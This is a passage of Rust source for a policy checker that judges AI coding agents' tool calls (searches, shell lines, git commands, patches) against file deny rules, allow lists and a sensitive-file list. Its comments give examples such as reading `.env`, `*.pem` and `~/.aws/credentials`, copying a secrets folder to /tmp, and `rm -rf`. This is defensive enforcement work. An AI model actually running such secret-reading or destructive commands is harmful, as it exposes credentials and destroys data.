/// A glob naming a path from the folder (`!secrets/**`) counts only when that folder is the one
/// Claude Code was started in ([`Place::launch`]): up to 2.1.100 it starts ripgrep there (not in
/// the working folder, which a Bash `cd` moves), given the searched path, and 2.1.332 in the
/// searched path; where it was started is unknown without `CLAUDE_PROJECT_DIR`. A name anywhere (`!secrets`, `!*.pem`, `!**/secrets/**`) leaves
/// out the same files either way. Nothing for other agents, whose searches read their globs
/// otherwise.
fn left_out(call: &ToolCall<'_>, place: &Place) -> LeftOut {
    if !is_claude_grep(call) {
        return LeftOut::default();
    }
    let globs = search_glob_list(call);
    let after = globs
        .iter()
        .rposition(|g| !is_exclusion(g))
        .map_or(0, |last| last + 1);
    let scope = call.search_scope();
    let folders = if scope.folders.is_empty() {
        vec!["."]
    } else {
        scope.folders
    };
    let cwd = place.cwd.as_deref();
    let start = place.launch.as_deref().map(|l| absolute(l, None));
    let mut searched: Option<String> = None;
    let mut from_start = true;
    for folder in folders {
        let folder = absolute(folder, cwd);
        let Some(rel) = relative(&folder, place) else {
            return LeftOut::default();
        };
        let outside = rel.starts_with(['/', '~', '$']) || rel.split('/').any(|s| s == "..");
        if outside || searched.as_ref().is_some_and(|s| *s != rel) {
            return LeftOut::default();
        }
        from_start &= start.as_ref() == Some(&folder);
        searched = Some(rel);
    }
    // One the reader cannot take apart leaves nothing out.
    let exclusions = globs[after..]
        .iter()
        .filter_map(|g| Exclusion::new(g))
        .filter(|e| from_start || !e.anchored())
        .collect();
    LeftOut {
        folder: searched.unwrap_or_default(),
        exclusions,
    }
}

/// Whether a glob has a wildcard in it.
fn is_wild(text: &str) -> bool {
    text.contains(['*', '?', '[', '{'])
}

/// The part of a glob before its first segment with a wildcard: the whole of a glob with none.
fn literal_start(glob: &str) -> String {
    if !is_wild(glob) {
        return glob.to_owned();
    }
    let mut parts = Vec::new();
    for part in glob.split('/') {
        if is_wild(part) {
            break;
        }
        parts.push(part);
    }
    parts.join("/")
}

/// A search's glob with a wildcard, judged against the read deny rules it could match: a deny
/// pattern that names a file the glob takes (`**/.env` or `*` takes `.env`), or one that
/// matches the glob's own text (`*.pem` and `keys/*.pem`), and, as a shell's glob is judged
/// ([`taken_by`]), one whose text and the glob's could meet segment by segment
/// (`sec*/key.pem` and `secrets/**`; there, as for a shell, a wildcard alone takes no
/// dotfile, so that `src/**` is not denied by `.env`; with `dots`, for Claude Code's Grep, which
/// runs ripgrep with `--hidden`, whose `*` takes a leading dot, it takes one of a deny that
/// names a path: `*/key.txt` takes `.secrets/key.txt`, `src/*` takes `**/.env`). A deny that
/// the search certainly leaves out ([`left_out`]) is not asked: the glob takes none of its
/// files. One no deny stops is judged by the other `lists` ([`judge_glob_kept`]).
fn judge_glob(
    policy: &Policy,
    glob: &str,
    place: &Place,
    left_out: &LeftOut,
    dots: bool,
    lists: Lists,
) -> Option<Judgement> {
    if !is_wild(glob) {
        return None;
    }
    let absolute = absolute(glob, place.cwd.as_deref());
    let relative = relative(&absolute, place);
    let taken = Glob::new(relative.as_deref().unwrap_or(&absolute));
    let deny = policy
        .files_read
        .deny
        .iter()
        .filter(|d| !left_out.covers(d))
        .find(|d| {
            let named = d.as_str().trim();
            d.matches(relative.as_deref(), &absolute)
                || (relative.is_some()
                    && !named.starts_with(['/', '~', '$'])
                    && taken.matches(Some(named.trim_start_matches("./")), named))
        })
        .or_else(|| {
            let rules = &policy.files_read;
            taken_by(policy, rules, glob, place, false, false, |d| {
                !left_out.covers(d)
            })
            .0
        })
        .or_else(|| {
            // A name in any folder (`.env`) is asked as for a folder searched whole: of the
            // project's folder only, which `*` and `**` already take (see judge_below).
            let rules = &policy.files_read;
            dots.then(|| {
                taken_by(policy, rules, glob, place, true, false, |d| {
                    !d.anywhere() && !left_out.covers(d)
                })
                .0
            })
            .flatten()
        });
    let access = Access::Read(glob.to_owned());
    if let Some(deny) = deny {
        return Some(judgement(
            access,
            Status::Violation,
            Some("files.read.deny"),
            Some(deny.as_str()),
        ));
    }
    if lists == Lists::Deny {
        return None;
    }
    let sensitive = (lists == Lists::SensitiveAndAllow).then_some(left_out);
    judge_glob_kept(
        policy,
        access,
        relative.as_deref(),
        &absolute,
        sensitive,
        dots,
    )
}

/// The lists a search's glob is judged by ([`judge_glob`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Lists {
    /// The read denies only: a form of the glob read as taking at least what it takes
    /// (`*.{rs,md}` as `*.*`), which names no file of its own.
    Deny,
    /// The denies and the allow list: a glob tool's, which lists names, as `ls` does.
    Allow,
    /// The denies, the sensitive list and the allow list: the glob of a search that reads what
    /// it takes.
    SensitiveAndAllow,
}

/// A search's glob that no deny stops ([`judge_glob`]), from the folder searched (the working
/// folder when the search names none): with `sensitive`, of a search that reads what it takes,
/// denied by a sensitive pattern naming a file it could take ([`Glob::may_name`]: `*.pem`,
/// `id_*`, `**/.env*`, not `*` or `**/*.ts`) unless an allow pattern names the files, and not
/// by one the search certainly leaves out ([`left_out`]); a glob tool lists names, as `ls`
/// does, which the sensitive list does not stop. Then judged by the allow list as a shell's glob
/// is, by its text (`src/*.rs` under `src/**`; `*.rs`, `**/*.pem` and `*`, taken in every
/// folder, are outside it).
fn judge_glob_kept(
    policy: &Policy,
    access: Access,
    relative: Option<&str>,
    absolute: &str,
    sensitive: Option<&LeftOut>,
    dots: bool,
) -> Option<Judgement> {
    let rules = &policy.files_read;
    let hit = |g: &&Glob| g.matches(relative, absolute);
    let taken = ShellGlob::new(relative, absolute, dots);
    let sensitive = sensitive
        .and_then(|left_out| {
            sensitive_named(policy, std::slice::from_ref(&taken), |s| left_out.covers(s))
        })
        .filter(|_| !rules.allow.iter().any(|g| g.names_files() && hit(&g)));
    if let Some(s) = sensitive {
        return Some(judgement(
            access,
            Status::Violation,
            Some("sensitive"),
            Some(s.as_str()),
        ));
    }
    match rules.allow.iter().find(hit) {
        Some(g) => Some(judgement(
            access,
            Status::Allowed,
            Some("files.read.allow"),
            Some(g.as_str()),
        )),
        None if !rules.allow.is_empty() => Some(judgement(
            access,
            Status::Violation,
            Some("files.read.allow"),
            None,
        )),
        None => None,
    }
}

/// What a command line does: each simple command run, the files they read and write (in each
/// folder a `cd` before them may have left the shell in), the hosts of its URLs.
pub fn command_accesses(command: &str) -> Vec<Access> {
    command_parts(command, false, Syntax::Bash, None)
        .into_iter()
        .map(|(a, _)| a)
        .collect()
}

/// How a call names a file: as it is or by a shell's glob, and whether the command goes
/// through it whole when it is a folder.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Spelt {
    /// A shell's glob; `Some(true)` when the line lets its wildcards take a leading dot.
    glob: Option<bool>,
    /// A folder read or written with everything below it (`cp -r`, `grep -r`, `rm -rf`);
    /// `Some(true)` when its hidden files and folders are too (all but `rg` and `ag` without
    /// `--hidden`; every agent's search tool).
    tree: Option<bool>,
    /// A word git may take for a revision, not a path ([`certain`](super::git::GitPath::certain)): only what a deny
    /// (or the sensitive list) names judges it, never an allow list's miss.
    maybe: bool,
    /// A command PowerShell runs, whose names a command pattern meets as PowerShell takes
    /// them ([`super::pwsh_names`]).
    powershell: bool,
}

impl Spelt {
    const TEXT: Spelt = Spelt {
        glob: None,
        tree: None,
        maybe: false,
        powershell: false,
    };
}

/// [`command_accesses`], each file marked with how it is spelt: a glob when an unquoted
/// wildcard is in it, or in the folder a `cd` went to. A line run on Windows (`windows`) reads
/// the files cmd's and PowerShell's commands read and write (`type`, `copy`, `Set-Content`),
/// and the lines `cmd /c` and `powershell -Command` run; `syntax`: the shell that reads it there
/// ([`shell_line`]: Git Bash runs Claude Code's `Bash` on Windows), not always PowerShell. A
/// path git takes from its repository's top is judged from each folder the top may be in, as
/// `place` tells (`top.rs`); without one, from where git runs.
fn command_parts(
    command: &str,
    windows: bool,
    syntax: Syntax,
    place: Option<&Place>,
) -> Vec<(Access, Spelt)> {
    let mut out = Vec::new();
    let mut dots = None;
    // Each simple command, and whether it is cmd's or PowerShell's.
    let simples: Vec<(SimpleCommand, bool)> = if windows {
        let simples = super::windows::split_as(command, syntax);
        simples.into_iter().map(|s| (s, true)).collect()
    } else {
        super::windows::split_on_unix(command, syntax == Syntax::PowerShell)
    };
    // Its text read whole, each `/` typed before a quote on Windows the `/` it is.
    let command = super::windows::typed_slashes_plain(command);
    for (simple, windows) in simples.into_iter().take(MAX_PARTS) {
        push_parts(&simple, &command, windows, place, &mut dots, &mut out);
    }
    out.extend(
        shell::hosts(&command)
            .into_iter()
            .map(|h| (Access::Connect(h), Spelt::TEXT)),
    );
    out
}

/// The line a shell tool runs, and the shell that reads it. On Windows (`windows`) a tool that
/// runs its lines in Bash on every system (Git Bash on Windows, [`tools::runs_bash`]) is read
/// as Bash's, the others' as PowerShell's, the shell Codex and the rest run there; elsewhere
/// each is read as Bash's but a PowerShell tool's ([`tools::runs_powershell`]: `pwsh` on
/// Linux and macOS). A call that names its shell gets it on every system: Codex's
/// `exec_command` runs its line in the one its `shell` names (`bash`, Git Bash's on Windows;
/// `cmd`; `pwsh`). Codex's older `shell` tool (and a `local_shell_call`) gives a program and
/// its arguments as a list, run by no shell (`["bash", "-lc", "cat k"]`, `["powershell.exe",
/// "-Command", "gc k"]`): they are the words of one command, quoted as Bash quotes them, and
/// the line the shell they name runs is read into as that shell's.
fn shell_line<'a>(call: &ToolCall<'a>, windows: bool) -> Option<(Cow<'a, str>, Syntax)> {
    let own = if tools::runs_powershell(call.agent, call.tool)
        || (windows && !tools::runs_bash(call.agent, call.tool))
    {
        Syntax::PowerShell
    } else {
        Syntax::Bash
    };
    if let Some(command) = call.command() {
        let named = (call.agent == Agent::Codex)
            .then(|| call.arg("shell").and_then(Syntax::of_program))
            .flatten();
        return Some((Cow::Borrowed(command), named.unwrap_or(own)));
    }
    let words: Vec<String> = call
        .command_words()?
        .into_iter()
        .map(str::to_owned)
        .collect();
    (!words.is_empty()).then(|| (Cow::Owned(shell::join(&words)), Syntax::Bash))
}

/// The text a call's parts past [`MAX_PARTS`] are left unread as.
const UNREAD_PAST_PARTS: &str = "…";

/// [`command_parts`] of one simple command of `command`, pushed onto `out`; `dots` holds
/// whether the line lets a glob take a leading dot, once it was asked.
fn push_parts(
    simple: &SimpleCommand,
    command: &str,
    windows: bool,
    place: Option<&Place>,
    dots: &mut Option<bool>,
    out: &mut Vec<(Access, Spelt)>,
) {
    let use_ = if windows {
        shell::file_use(&super::windows::as_unix(simple))
    } else {
        shell::file_use(simple)
    };
    if !simple.words.is_empty() {
        let spelt = Spelt {
            powershell: simple.powershell,
            ..Spelt::TEXT
        };
        out.push((Access::Run(run_line(simple)), spelt));
    }
    let visible = !use_.skips_hidden;
    let reads_its_folder = use_.reads_its_folder;
    let works_in = use_.works_in;
    let from_top = use_.reads_from_top;
    let git = use_.git;
    let files = (use_.reads.into_iter().map(|p| (p, false, None)))
        .chain(
            use_.read_trees
                .into_iter()
                .map(|p| (p, false, Some(visible))),
        )
        .chain(use_.writes.into_iter().map(|p| (p, true, None)))
        .chain(use_.write_trees.into_iter().map(|p| (p, true, Some(true))));
    // The folders it may run in: `""` where the line started.
    let moved: Vec<&str> = simple.cwd.iter().map(String::as_str).collect();
    let dirs: &[&str] = if moved.is_empty() { &[""] } else { &moved };
    for (path, write, tree) in files {
        let access = |path: String| {
            if write {
                Access::Write(path)
            } else {
                Access::Read(path)
            }
        };
        let glob = simple.globs.contains(&path);
        for &dir in dirs {
            // `cd build && cmake ..` works where the line started, as `make` there does.
            if works_in.contains(&path) && cd_into(dir, &path).is_empty() {
                continue;
            }
            let glob = (glob || shell::is_glob(dir))
                .then(|| *dots.get_or_insert_with(|| dotglob(command)));
            let path = in_folder(dir, &path);
            let spelt = Spelt {
                glob,
                tree,
                maybe: false,
                powershell: false,
            };
            out.push((access(unspelt(&path).into_owned()), spelt));
        }
    }
    // `git show HEAD:secrets/k` reads `secrets/k` from the repository's top, wherever that is.
    for (folder, path) in &from_top {
        for &dir in dirs {
            for path in super::top::from_top(&in_folder(dir, folder), path, place) {
                out.push((Access::Read(unspelt(&path).into_owned()), Spelt::TEXT));
            }
        }
    }
    push_git_paths(&git, simple, command, place, dirs, dots, out);
    push_patched(&git, place, dirs, out);
    // `cd secrets && make` works in `secrets`, as `make -C secrets` does, and reads it
    // whole. Where the line started it reads the agent's own folder, not judged whole: that
    // would stop every build and `git status` under any deny below the project.
    if reads_its_folder {
        for &dir in dirs.iter().filter(|d| !d.is_empty()) {
            let glob = shell::is_glob(dir).then(|| *dots.get_or_insert_with(|| dotglob(command)));
            let tree = Some(true);
            let spelt = Spelt {
                glob,
                tree,
                maybe: false,
                powershell: false,
            };
            out.push((Access::Read(dir.to_owned()), spelt));
        }
    }
}

/// The line a simple command runs, for the command patterns to judge: its words, after the
/// settings git reads of its environment (`GIT_CONFIG_PARAMETERS=… git push`,
/// `GIT_CONFIG_KEY_0=…`), which a deny of the option they amount to meets (`git_settings`).
fn run_line(simple: &SimpleCommand) -> String {
    let line = shell::join(&simple.words);
    let settings: Vec<String> = simple
        .env
        .iter()
        .filter_map(|w| w.split_once('='))
        .filter(|(name, _)| {
            name.get(..GIT_CONFIG.len())
                .is_some_and(|head| head.eq_ignore_ascii_case(GIT_CONFIG))
        })
        .map(|(name, value)| format!("{name}={}", shell::join(&[value.to_owned()])))
        .collect();
    if settings.is_empty() {
        line
    } else {
        format!("{} {line}", settings.join(" "))
    }
}

/// The start of the names of the variables git reads settings from.
const GIT_CONFIG: &str = "GIT_CONFIG_";

/// [`push_parts`] of the paths git takes ([`GitPaths`]), in each folder `dirs` the command may
/// run in: a folder is gone through whole, a file that is there read (and written) as it is,
/// and a word git may take for a revision that names nothing there ([`certain`](super::git::GitPath::certain)) is
/// judged only by a deny ([`Spelt::maybe`]); without a place to look from (what a line does,
/// for a policy made from sessions), such a word is left out.
fn push_git_paths(
    git: &GitPaths,
    simple: &SimpleCommand,
    command: &str,
    place: Option<&Place>,
    dirs: &[&str],
    dots: &mut Option<bool>,
    out: &mut Vec<(Access, Spelt)>,
) {
    for &dir in dirs {
        let mut named = false;
        for git_path in &git.paths {
            if git_path.here_is_none && cd_into(dir, &git_path.path).is_empty() {
                continue;
            }
            let path = in_folder(dir, &git_path.path);
            let glob = (simple.globs.contains(&git_path.path) || shell::is_glob(dir))
                .then(|| *dots.get_or_insert_with(|| dotglob(command)));
            let found = place
                .filter(|_| glob.is_none())
                .and_then(|p| Some((p.probe?, absolute(&path, p.cwd.as_deref()))))
                .filter(|(_, at)| at.starts_with('/') && !at.contains('$'))
                .map(|(probe, at)| probe(&at));
            let (tree, maybe) = match (git_path.certain, found) {
                (_, Some(Found::File)) => (None, false),
                (_, Some(Found::Folder)) | (true, _) => (Some(true), false),
                (false, _) if place.is_none() => continue,
                (false, _) => (None, true),
            };
            named |= !maybe;
            let spelt = Spelt {
                glob,
                tree,
                maybe: maybe || git_path.judged_by == super::git::JudgedBy::Denies,
                powershell: false,
            };
            let path = unspelt(&path).into_owned();
            if git_path.write {
                out.push((Access::Write(path.clone()), spelt));
            }
            out.push((Access::Read(path), spelt));
        }
        if git.whole_otherwise && !named {
            let whole = Spelt {
                glob: shell::is_glob(dir).then(|| *dots.get_or_insert_with(|| dotglob(command))),
                tree: Some(true),
                maybe: false,
                powershell: false,
            };
            let here = if dir.is_empty() { "." } else { dir };
            out.push((Access::Read(here.to_owned()), whole));
        }
    }
}

/// The files a patch `git apply` or `patch` applies writes ([`GitPaths::patches`]), named
/// from the repository's top for git (see `top.rs`), from where it runs for `patch`, when the
/// caller can read it ([`Place::read`]). A patch that cannot be read writes a file of unknown
/// name anywhere, judged by a deny alone: one that is there unread (a link, no regular file,
/// too large, naming too many files), and one that is not there when judged, which the line
/// itself may write before it is applied (`cat > p.diff <<EOF … EOF; git apply p.diff`).
fn push_patched(
    git: &GitPaths,
    place: Option<&Place>,
    dirs: &[&str],
    out: &mut Vec<(Access, Spelt)>,
) {
    let Some((place, read)) = place.and_then(|p| Some((p, p.read?))) else {
        return;
    };
    let unknown = Spelt {
        glob: None,
        tree: None,
        maybe: true,
        powershell: false,
    };
    for patch in &git.patches {
        for &dir in dirs {
            let at = absolute(&in_folder(dir, &patch.file), place.cwd.as_deref());
            let held = if at.starts_with('/') && !at.contains('$') {
                read(&at)
            } else {
                Held::Unread
            };
            let named = match held {
                Held::Text(text) => super::git::patched_files(&text, patch),
                Held::Nothing | Held::Unread => None,
            };
            let Some(named) = named else {
                let diff = in_folder(dir, &patch.file);
                let path = format!("{}{diff}", super::git::UNREAD_DIFF);
                out.push((Access::Write(path), unknown));
                continue;
            };
            for name in named {
                let paths = match patch.by {
                    Applier::Git => super::top::from_top(dir, &name, Some(place)),
                    Applier::Patch => vec![in_folder(dir, &name)],
                };
                for path in paths {
                    out.push((Access::Write(unspelt(&path).into_owned()), Spelt::TEXT));
                }
            }
        }
    }
}

/// Whether a command line may let a glob's wildcards take a leading dot: bash's `dotglob` (set
/// also by a `GLOBIGNORE`), zsh's `globdots` however it is spelt (`GLOB_DOTS`).
fn dotglob(command: &str) -> bool {
    let text: String = command
        .chars()
        .filter(|c| *c != '_')
        .map(|c| c.to_ascii_lowercase())
        .collect();
    text.contains("dotglob") || text.contains("globdots") || text.contains("globignore")
}

fn strings_of(value: &Value, f: &mut impl FnMut(&str)) {
    match value {
        Value::String(s) => f(s),
        Value::Array(items) => items.iter().for_each(|v| strings_of(v, f)),
        Value::Object(map) => map.values().for_each(|v| strings_of(v, f)),
        _ => {}
    }
}

fn judgement(
    access: Access,
    status: Status,
    rule: Option<&'static str>,
    pattern: Option<&str>,
) -> Judgement {
    Judgement {
        access,
        status,
        rule,
        pattern: pattern.map(str::to_owned),
    }
}

fn judge(policy: &Policy, access: Access, place: &Place) -> Judgement {
    match &access {
        Access::Read(path) => {
            let path = path.clone();
            judge_path(
                policy,
                &policy.files_read,
                "files.read",
                access,
                &path,
                place,
            )
        }
        Access::Write(path) => {
            // A file a diff that could not be read writes may be any file.
            let path = if path.starts_with(super::git::UNREAD_DIFF) {
                super::git::UNKNOWN.to_owned()
            } else {
                path.clone()
            };
            judge_path(
                policy,
                &policy.files_write,
                "files.write",
                access,
                &path,
                place,
            )
        }
        Access::Run(_) => judge_command(policy, access, false),
        Access::Connect(host) => {
            let host = host.clone();
            judge_host(policy, access, &host)
        }
        Access::Tool(_) => judgement(access, Status::NoPolicy, None, None),
    }
}

/// One thing a call does, judged by how it names its file; a folder gone through whole without
/// what `left_out` leaves out of it.
fn judge_spelt(
    policy: &Policy,
    access: Access,
    place: &Place,
    spelt: Spelt,
    left_out: &LeftOut,
) -> Judgement {
    if matches!(access, Access::Run(_)) {
        return judge_command(policy, access, spelt.powershell);
    }
    // Most files are no folder gone through: judged without a copy of the access.
    let Some(hidden) = spelt.tree else {
        return match spelt.glob {
            Some(dots) => judge_shell_glob(policy, access, place, dots),
            None => judge(policy, access, place),
        };
    };
    let judged = match spelt.glob {
        Some(dots) => judge_shell_glob(policy, access.clone(), place, dots),
        None => judge(policy, access.clone(), place),
    };
    if matches!(judged.rule, Some("files.read.deny" | "files.write.deny")) {
        return judged;
    }
    judge_below(
        policy,
        &access,
        place,
        spelt.glob.unwrap_or(true),
        hidden,
        left_out,
    )
    .unwrap_or(judged)
}

/// A folder a command goes through whole (`cp -r secrets /tmp`, `grep -r KEY .`, `rm -rf
/// config`), judged as reading or writing `DIR/**`: denied by a deny pattern that could match a
/// path at or below it ([`Glob::may_hold`]: `secrets/key.pem` below `secrets`, `.env` below the
/// project's folder, `**/.env` below any). A folder that holds the project (`..` from it, `/`)
/// holds all the project's files. The sensitive list is not asked: every folder could hold a
/// `.env`, and a recursive `grep` is everyday work. A read deny that what the search leaves out
/// covers ([`left_out`]) is not asked either.
fn judge_below(
    policy: &Policy,
    access: &Access,
    place: &Place,
    dots: bool,
    hidden: bool,
    left_out: &LeftOut,
) -> Option<Judgement> {
    let (rules, deny_key, path, write) = match access {
        Access::Read(p) => (&policy.files_read, "files.read.deny", p, false),
        Access::Write(p) => (&policy.files_write, "files.write.deny", p, true),
        _ => return None,
    };
    if rules.deny.is_empty() {
        return None;
    }
    let absolute = absolute(path, place.cwd.as_deref());
    let relative = relative(&absolute, place).or_else(|| {
        (absolute.starts_with('/') && place.roots.iter().any(|r| below(r, &absolute).is_some()))
            .then(String::new)
    });
    let tails = tails(&absolute);
    let anywhere = from_anywhere(&absolute);
    let mut folders: Vec<ShellGlob<'_>> = std::iter::once(relative.as_deref())
        .chain(tails.into_iter().map(Some))
        .map(|relative| ShellGlob::new(relative, &absolute, dots))
        .collect();
    folders.extend(
        anywhere
            .as_deref()
            .map(|a| ShellGlob::new(Some(a), a, dots)),
    );
    let searched = relative.as_deref() == Some(left_out.folder.as_str());
    let deny = rules.deny.iter().find(|d| {
        folders.iter().any(|f| d.may_hold(f, hidden))
            && (write || !(searched && left_out.covers(d)))
    })?;
    let all = format!("{}/**", path.trim_end_matches('/'));
    let access = if write {
        Access::Write(all)
    } else {
        Access::Read(all)
    };
    Some(judgement(
        access,
        Status::Violation,
        Some(deny_key),
        Some(deny.as_str()),
    ))
}

/// The deny pattern of `rules` naming a file the glob `path` could take, of those `asked`, and
/// (with `sensitive`, unless an allow pattern names the file) the sensitive pattern: shared by a
/// shell's globs and a search tool's ([`Glob::may_take`]).
fn taken_by<'p>(
    policy: &'p Policy,
    rules: &'p PathRules,
    path: &str,
    place: &Place,
    dots: bool,
    sensitive: bool,
    asked: impl Fn(&Glob) -> bool,
) -> (Option<&'p Glob>, Option<&'p Glob>) {
    let absolute = absolute(path, place.cwd.as_deref());
    let relative = relative(&absolute, place);
    // Where the glob is, and where it may be when it is from a folder the line does not name.
    let globs: Vec<ShellGlob<'_>> = std::iter::once(relative.as_deref())
        .chain(tails(&absolute).into_iter().map(Some))
        .map(|relative| ShellGlob::new(relative, &absolute, dots))
        .collect();
    let takes = |g: &Glob| globs.iter().any(|glob| g.may_take(glob, false));
    // A deny of a folder's contents, from any folder the path may be in (see from_anywhere).
    let anywhere = from_anywhere(&absolute);
    let anywhere = anywhere
        .as_deref()
        .map(|a| ShellGlob::new(Some(a), a, dots));
    let deny = rules.deny.iter().find(|d| {
        asked(d)
            && (takes(d)
                || anywhere
                    .as_ref()
                    .is_some_and(|a| !d.anywhere() && d.may_take(a, false)))
    });
    if deny.is_some() || !sensitive {
        return (deny, None);
    }
    let named_by_allow = rules
        .allow
        .iter()
        .any(|g| g.names_files() && g.matches(relative.as_deref(), &absolute));
    let hit = (!named_by_allow)
        .then(|| sensitive_named(policy, &globs, |_| false))
        .flatten();
    (None, hit)
}

/// The sensitive pattern of `policy` (but those `skip` leaves out) naming a file one of `globs`
/// could take ([`Glob::may_name`]): a segment of a glob's own meets one of the pattern's, so a
/// `**` names nothing. The one rule for a shell's glob and a search tool's: `cat src/**/*.rs`
/// was denied as reading `**/.aws/credentials` (its `**` could be `.aws`) where a Grep of the
/// glob `src/**/*.rs` was not; `src/**/*.pem` and `**/.env*` are denied in both.
fn sensitive_named<'p>(
    policy: &'p Policy,
    globs: &[ShellGlob<'_>],
    skip: impl Fn(&Glob) -> bool,
) -> Option<&'p Glob> {
    policy
        .sensitive
        .iter()
        .find(|s| !skip(s) && globs.iter().any(|glob| s.may_name(glob)))
}

/// A file a shell names by a glob (`cat .e*`, `> secrets/*.pem`): judged as its text, and
/// denied by a deny rule naming a file it could take ([`Glob::may_take`]: `.e*` takes `.env`,
/// and `*` no `.env`, since a shell's wildcard does not take a leading dot unless the line
/// turns on `dotglob` or `globdots`), or by a sensitive pattern as a search's glob is
/// ([`sensitive_named`]: `~/.aws/cred*` names `**/.aws/credentials`): met only by a glob
/// segment with a character of its own (`*.p*`, not `*` or `**`), so that `rm -rf build/*` is
/// not taken for writing every `*.pem`, nor `cat src/**/*.rs` for reading `.aws/credentials`.
fn judge_shell_glob(policy: &Policy, access: Access, place: &Place, dots: bool) -> Judgement {
    let text = judge(policy, access.clone(), place);
    let (rules, deny_key, path) = match &access {
        Access::Read(p) => (&policy.files_read, "files.read.deny", p),
        Access::Write(p) => (&policy.files_write, "files.write.deny", p),
        _ => return text,
    };
    // As for a path: a deny first, then a sensitive file, then the allow list.
    if text.rule == Some(deny_key) {
        return text;
    }
    let (deny, sensitive) = taken_by(
        policy,
        rules,
        path,
        place,
        dots,
        text.rule != Some("sensitive"),
        |_| true,
    );
    if let Some(d) = deny {
        return judgement(access, Status::Violation, Some(deny_key), Some(d.as_str()));
    }
    if let Some(s) = sensitive {
        return judgement(
            access,
            Status::Violation,
            Some("sensitive"),
            Some(s.as_str()),
        );
    }
    text
}

fn judge_path(
    policy: &Policy,
    rules: &PathRules,
    section: &'static str,
    access: Access,
    path: &str,
    place: &Place,
) -> Judgement {
    let (deny_key, allow_key) = match section {
        "files.read" => ("files.read.deny", "files.read.allow"),
        _ => ("files.write.deny", "files.write.allow"),
    };
    let absolute = absolute(path, place.cwd.as_deref());
    let relative = relative(&absolute, place);
    let hit = |g: &&Glob| g.matches(relative.as_deref(), &absolute);
    // A deny may match a path from an unknown folder where it may be; an allow only where it is.
    let tails = tails(&absolute);
    let may_hit = |g: &&Glob| hit(g) || tails.iter().any(|t| g.matches(Some(t), &absolute));
    let anywhere = from_anywhere(&absolute);
    let anywhere = anywhere
        .as_deref()
        .map(|a| ShellGlob::new(Some(a), a, true));
    // A path above a folder no session recorded is in no project: only a deny written from
    // above too (`../**`, which `policy` writes for it) names it.
    let above = relative.is_none() && climbs_out(&absolute);
    let denied = |g: &&Glob| {
        may_hit(g)
            || (above && g.matches_above(&absolute))
            || anywhere
                .as_ref()
                .is_some_and(|a| !g.anywhere() && g.may_take(a, false))
    };
    if let Some(g) = rules.deny.iter().find(denied) {
        return judgement(access, Status::Violation, Some(deny_key), Some(g.as_str()));
    }
    // A sensitive file is allowed by a pattern that names it, wherever it is in the list:
    // `["src/**", "src/.env"]` allows `src/.env`.
    let sensitive = policy.sensitive.iter().find(may_hit);
    let allowed = match sensitive {
        Some(_) => rules.allow.iter().find(|g| hit(g) && g.names_files()),
        None => rules.allow.iter().find(hit),
    };
    if let Some(s) = sensitive
        && allowed.is_none()
    {
        return judgement(
            access,
            Status::Violation,
            Some("sensitive"),
            Some(s.as_str()),
        );
    }
    match allowed {
        Some(g) => judgement(access, Status::Allowed, Some(allow_key), Some(g.as_str())),
        None if !rules.allow.is_empty() => {
            judgement(access, Status::Violation, Some(allow_key), None)
        }
        None => judgement(access, Status::NoPolicy, None, None),
    }
}

/// A path from a folder the line does not name (`$X/key.pem`, after `cd "$X"` or written so),
/// as a glob of that path from any folder: `**/key.pem` (`**` for `$X` itself). The folder may
/// be any one, `secrets` too, so a deny of a folder's contents (`secrets/**`) or of a file in
/// one (`secrets/key.pem`) matches it: a deny holds whatever the variable, `cd -` or `$(…)`
/// turns out to be. This stops a line that reads or writes a file after such a `cd` whenever
/// the policy denies a folder's contents, even where the folder was harmless (`cd "$(git
/// rev-parse --show-toplevel)" && cat README.md`); the agent is told why and can name the path.
/// A name denied in any folder (`.env`, `*.pem`) is matched as before, by the path's own
/// words ([`tails`]).
fn from_anywhere(absolute: &str) -> Option<String> {
    // `$HOME` names one folder, as `cd "$HOME"` does (see cwd.rs).
    let home = ["$HOME", "${HOME}"].iter().any(|h| {
        absolute
            .strip_prefix(h)
            .is_some_and(|r| r.is_empty() || r.starts_with('/'))
    });
    if !absolute.starts_with('$') || home {
        return None;
    }
    Some(match absolute.split_once('/') {
        Some((_, rest)) if !rest.is_empty() => format!("**/{rest}"),
        _ => "**".to_owned(),
    })
}

/// For a path from a folder the line does not name (`$X/secrets/key.pem`, after `cd "$X"`),
/// each path it ends with (`secrets/key.pem`, `key.pem`): that folder may be the project or
/// one in it, so a deny below the project may mean any of them.
fn tails(absolute: &str) -> Vec<&str> {
    let mut out = Vec::new();
    if !absolute.starts_with('$') {
        return out;
    }
    let mut rest = absolute;
    while let Some((_, tail)) = rest.split_once('/') {
        if !tail.is_empty() {
            out.push(tail);
        }
        rest = tail;
    }
    out
}

/// A command judged by the command patterns; `powershell`: one PowerShell runs, whose names
/// are met as PowerShell takes them ([`denies_in_powershell`]).
fn judge_command(policy: &Policy, access: Access, powershell: bool) -> Judgement {
    let Access::Run(line) = &access else {
        return judgement(access, Status::NoPolicy, None, None);
    };
    // The words were joined with their quoting (`shell::join`), so they split back as they were;
    // the settings before them ([`run_line`]) are the command's environment.
    let (words, env): (Vec<String>, Vec<String>) = shell::split(line)
        .into_iter()
        .next()
        .map_or_else(Default::default, |c: SimpleCommand| (c.words, c.env));
    let words = if words.is_empty() {
        line.split_whitespace().map(str::to_owned).collect()
    } else {
        words
    };
    // A PowerShell line may run a program as a shell line does (`rm -fr` is `/bin/rm` on Linux
    // and macOS): its words are met both ways, PowerShell's and the shell's.
    let denied = |p: &&CommandPattern| {
        denies_with(p, &env, &words) || (powershell && denies_in_powershell(p, &words))
    };
    if let Some(p) = policy.commands_deny.iter().find(denied) {
        let text = p.text.clone();
        return judgement(
            access,
            Status::Violation,
            Some("commands.deny"),
            Some(&text),
        );
    }
    if let Some(p) = policy.commands_allow.iter().find(|p| allows(p, &words)) {
        let text = p.text.clone();
        return judgement(access, Status::Allowed, Some("commands.allow"), Some(&text));
    }
    if policy.commands_allow.is_empty() {
        judgement(access, Status::NoPolicy, None, None)
    } else {
        judgement(access, Status::Violation, Some("commands.allow"), None)
    }
}

/// Whether a deny pattern is in a command: its first word names a command anywhere in the
/// words (`sudo rm …`, `xargs rm …`, `/bin/rm`), and its other words follow it
/// ([`follows_to`]). A pattern's words from its first wildcard on are a glob met after the words
/// before it ([`wildcard::met_in`]): `rm -rf *` is met as `rm -rf` is, and `git push*` by `git
/// push --force`. Such a pattern is met by its words as written too, as it was before wildcards
